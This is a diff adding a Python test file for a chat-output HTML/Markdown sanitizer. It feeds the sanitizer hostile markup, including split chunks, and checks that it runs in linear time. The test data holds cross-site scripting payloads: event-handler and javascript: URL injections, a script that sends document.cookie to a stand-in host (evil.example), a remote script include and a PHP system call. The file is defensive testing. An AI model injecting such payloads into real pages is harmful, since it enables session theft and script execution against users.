@@ -1,0 +1,169 @@
+"""Hostile markup against the sanitizer: nothing a browser or a Markdown renderer would turn into
+markup reaches a consumer, however the markup is cased, quoted, nested, left open or split over
+chunks; and no shape of input makes sanitizing cost more than linear time.
+
+Safety is judged by ``tests/security/markup_oracle.py``: the output is rendered as CommonMark with
+raw HTML enabled (what a consumer's client does) and the resulting HTML is inspected, so the check
+shares nothing with the sanitizer's own reading of the text."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from routing.sanitize import TagStripper, strip_tags
+from tests.security.markup_oracle import offences
+
+
+def stream(pieces: list[str]) -> str:
+    stripper = TagStripper()
+    return "".join(stripper.feed(piece) for piece in pieces) + stripper.flush()
+
+
+HOSTILE = {
+    "script": "Hi <script>fetch('//evil.example/?c='+document.cookie)</script> there",
+    "script uppercase": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "script self-closed": "<script/src=//evil.example/x.js>",
+    "img onerror": "<img src=x onerror=alert(1)>",
+    "img onerror uppercase": "<IMG SRC=x ONERROR=alert(1)>",
+    "quoted gt": '<img alt=">" onerror=alert(1)>',
+    "single quoted gt": "<img alt='>' onerror=alert(1)>",
+    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
+    "svg onload": "<svg onload=alert(1)><circle r=1 /></svg>",
+    "svg script": "<svg><script>alert(1)</script></svg>",
+    "math href": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+    "event handler on unknown element": "<x-card onmouseover=alert(1) style=display:block>",
+    "style overlay": '<div style="position:fixed;inset:0">login here</div>',
+    "unclosed img": "<img src=x onerror=alert(1) ",
+    "unclosed quote": '<img alt="x onerror=alert(1)>',
+    "nested": "<<b>script>alert(1)<</b>/script>",
+    "joined by removal": "<scr<b>ipt>alert(1)</scr<i>ipt>",
+    "comment": "<!-- <script>alert(1)</script> -->shown",
+    "unclosed comment": "shown<!-- <img src=x onerror=alert(1)>",
+    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "doctype and pi": "<!DOCTYPE html><?php system('id'); ?>",
+    "tag across lines": "<img\nsrc=x\nonerror=alert(1)>",
+    "span opened to smuggle": "look: `<img src=x onerror=alert(1)> no closing backtick",
+    "span across lines": "`a\n<img src=x onerror=alert(1)>`",
+    "escaped backtick": "\\`<img src=x onerror=alert(1)>`",
+    "table cell split": "| `x|<img src=x onerror=alert(1)>` |\n|---|",
+    "indented fence": "    ```\n<img src=x onerror=alert(1)>\n    ```",
+    "fence in quote": "> ```\n<img src=x onerror=alert(1)>\n```",
+    "html block then code": "<T>\n`<img src=x onerror=alert(1)>`",
+    "html block then fence": "<T>\n```\n<img src=x onerror=alert(1)>\n```",
+    "fence in list dedented": "- ```\n<img src=x onerror=alert(1)>\n  ```",
+    "crlf": "<img\r\nsrc=x onerror=alert(1)>\r\n```\r\n<b>code</b>\r\n```\r\n<i>x</i>",
+    "lone cr": "```\r<b>code</b>\r```\r<img src=x onerror=alert(1)>",
+    "backticks joined by removal": "``<b>`\n<img src=x onerror=alert(1)>\n```",
+    "tildes joined by removal": "~~<b>~\n<img src=x onerror=alert(1)>\n~~~",
+    "markup inside a tag left open at the end": "x <u a='</script>on<style>y",
+    "markup inside a kept tag": "<x-y<U a='\r&lt;<U a='</script>on<style><!</script>",
+}
+
+
+@pytest.mark.parametrize("name", list(HOSTILE))
+def test_hostile_markup_never_reaches_a_consumer_whole_or_split_anywhere(name):
+    text = HOSTILE[name]
+    whole = strip_tags(text)
+    assert offences(whole) == []
+    for cut in range(1, len(text)):
+        assert stream([text[:cut], text[cut:]]) == whole, cut
+    assert stream(list(text)) == whole
+
+
+def test_the_oracle_sees_what_the_old_sanitizer_let_through():
+    # The checker is worth something only if it flags real markup.
+    assert offences("<T>\n`<img src=x onerror=alert(1)>`")
+    assert offences("<x-y onmouseover=alert(1)>hi")
+    assert offences("a <b>bold</b>")
+    assert not offences("a `<b>` and\n```\n<script>\n```\nList<String>")
+
+
+# --- Properties ----------------------------------------------------------------------------------
+
+FRAGMENTS = [
+    "<", ">", "/", "`", "``", "```", "~~~", "\n", "\r\n", "\r", " ", "   ", "    ", "\t", "- ",
+    "1. ", "2. ", "> ", "|", "\\", "=", '"', "'", "!", "?", "-", "#", "*", "a", "x", "on", "b",
+    "script", "style", "img", "div", "svg", "<b>", "</b>", "<i", "<p", "<script>", "</script>",
+    "<style>", "<img src=x onerror=alert(1)>", "<a href=", "<T>", "<T onmouseover=1>", "<U a='",
+    "<x-y", "<!--", "-->", "<?", "<!", "<![CDATA[", "]]>", "onerror=alert(1)", "&lt;", "\n\n",
+]
+hostile_text = st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=40).map("".join)
+some_text = st.one_of(hostile_text, st.text(alphabet="<>/`~\n\r -1.|\\ab=\"'!?", max_size=60))
+FAST = settings(max_examples=400, deadline=None,
+                suppress_health_check=[HealthCheck.too_slow])
+
+
+def pieces_of(text: str, cuts: list[int]) -> list[str]:
+    cuts = sorted({min(cut, len(text)) for cut in cuts})
+    return [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
+
+
+@FAST
+@given(some_text)
+def test_no_element_tag_reaches_a_consumer_outside_code(text):
+    assert offences(strip_tags(text)) == []
+
+
+@FAST
+@given(some_text, st.lists(st.integers(min_value=0, max_value=60), max_size=6))
+def test_chunking_never_changes_the_result(text, cuts):
+    assert stream(pieces_of(text, cuts)) == strip_tags(text)
+
+
+@FAST
+@given(st.text(max_size=80).filter(lambda t: "<" not in t),
+       st.lists(st.integers(min_value=0, max_value=80), max_size=5))
+def test_text_without_a_lt_is_never_changed(text, cuts):
+    assert stream(pieces_of(text, cuts)) == text
+
+
+# --- Cost ----------------------------------------------------------------------------------------
+
+K = 100_000
+WORST_SHAPES = {
+    "lt a gt b (the issue's chunk)": "<" * 30000 + "a" + ">b" * 30000,
+    "lt run": "<" * K,
+    "lt gt alternating": "<>" * (K // 2),
+    "nested open tags": "<b" * (K // 2),
+    "unclosed element tags": "<a " * (K // 3),
+    "complete tags": "<a>" * (K // 3),
+    "non-element tags": "<T>" * (K // 3),
+    "non-element unclosed": ("<T a='" + "y" * 20) * (K // 26),
+    "quoted gt": ('<T a=">" ' * 10 + "\n") * (K // 101),
+    "tags on lines": "<T\n" * (K // 3),
+    "scripts": "<script></script>" * (K // 17),
+    "comments": "<!---->" * (K // 7),
+    "end tag starts": "</" * (K // 2),
+    "backticks and lines": "`a`\n" * (K // 4),
+    "fences opening and closing": "```\n```\n" * (K // 8),
+    "mixed": ("<b>x</b> `<i>` a<b c>d\n```\n<div>\n```\n" * 3000)[:K],
+}
+
+
+def cost_per_10kb(text: str, piece: int) -> float:
+    """Best of three: milliseconds of sanitizing per 10 KB, fed in pieces of ``piece``."""
+    best = float("inf")
+    for _ in range(3):
+        stripper = TagStripper()
+        start = time.perf_counter()
+        for at in range(0, len(text), piece):
+            stripper.feed(text[at : at + piece])
+        stripper.flush()
+        best = min(best, time.perf_counter() - start)
+    return best * 1000 / (len(text) / 10_000)
+
+
+@pytest.mark.parametrize("name", list(WORST_SHAPES))
+def test_sanitizing_is_linear_and_cheap_for_the_worst_shapes(name):
+    text = WORST_SHAPES[name]
+    # Measured at 0.4-4.5 ms per 10 KB on the 2-core machine; the old sanitizer took 2.7 s per
+    # 10 KB on the issue's chunk. The bound leaves room for a loaded machine.
+    assert cost_per_10kb(text, len(text)) < 15
+    assert cost_per_10kb(text, 1000) < 15
+    # Linear: ten times the text costs about ten times as much, not a hundred.
+    small = text[: len(text) // 10]
+    assert cost_per_10kb(text, len(text)) < 4 * cost_per_10kb(small, len(small)) + 1
